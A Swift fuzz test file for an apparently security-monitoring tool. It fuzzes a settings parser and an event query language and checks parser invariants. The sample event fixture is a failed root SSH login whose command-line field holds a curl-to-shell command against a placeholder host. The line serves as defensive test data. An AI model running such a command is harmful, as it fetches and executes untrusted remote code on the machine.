import ControllerIntake
import CordonModel

@testable import CordonSettings

/// What people write: settings and searches.
extension FuzzEntry {
    static let settings: [FuzzEntry] = [
        FuzzEntry(name: "settings") { bytes in
            var parser = SettingsParser(file: "fuzz", bytes: bytes)
            let lines = bytes.count { $0 == 0x0A } + 1
            do throws(SettingsError) {
                try parser.parse()
            } catch {
                try hold(error.message.hasPrefix("fuzz:"), "a fault says file and line: \(error.message)")
                return
            }
            for entry in parser.entries.values.flatMap(\.values) {
                let line = entry.origin.split(separator: ":").last.flatMap { Int($0) } ?? 0
                try hold((1...lines).contains(line), "a key stands on a line of the file: \(entry.origin)")
            }
            var longer = SettingsParser(file: "fuzz", bytes: bytes + Array("\n# end\n".utf8))
            try longer.parse()
            try same(longer.entries, parser.entries, "a comment changes nothing")
            try readSections(bytes)
        }
    ]

    /// Every key by every kind of reading.
    private static func readSections(_ bytes: [UInt8]) throws {
        guard let text = String(validating: bytes, as: UTF8.self) else { return }
        let settings = try Settings.parse(text)
        for name in ["", "a", "source.auth"] {
            var section = settings.section(name)
            for key in ["a", "b", "key"] {
                _ = try? section.text(key)
                _ = try? section.integer(key, default: 1, in: 0...100)
                _ = try? section.flag(key, default: true)
                _ = try? section.duration(key, default: .seconds(1), in: .zero ... .seconds(100))
                _ = try? section.networks(key, default: [])
                _ = try? section.endpoints(key, default: [])
            }
            try? settings.finish(section)
        }
    }

    static let search: [FuzzEntry] = [
        FuzzEntry(name: "search") { bytes in
            let text = String(decoding: bytes, as: UTF8.self)
            guard let query = try? EventQuery(text) else { return }
            if query != .everything, let bracketed = try? EventQuery("(\(text))") {
                try same(bracketed, query, "brackets around all change nothing")
            }
            for event in [sample, Event(timestamp: now, created: now, original: text)] {
                try hold(query.matches(event) != EventQuery.not(query).matches(event), "a query holds or does not")
            }
        }
    ]

    static let sample = Event(
        timestamp: now, created: now, original: "Failed password for root from 203.0.113.9 port 22 ssh2",
        fields: [
            .userName: .text("root"), .sourceIP: .text("203.0.113.9"), .sourcePort: .number(22),
            .eventCategory: .texts(["authentication", "session"]), .processName: .text("sshd"),
            .processCommandLine: .text("/bin/sh -c 'curl http://x | sh'"), .eventOutcome: .text("failure"),
        ])
}
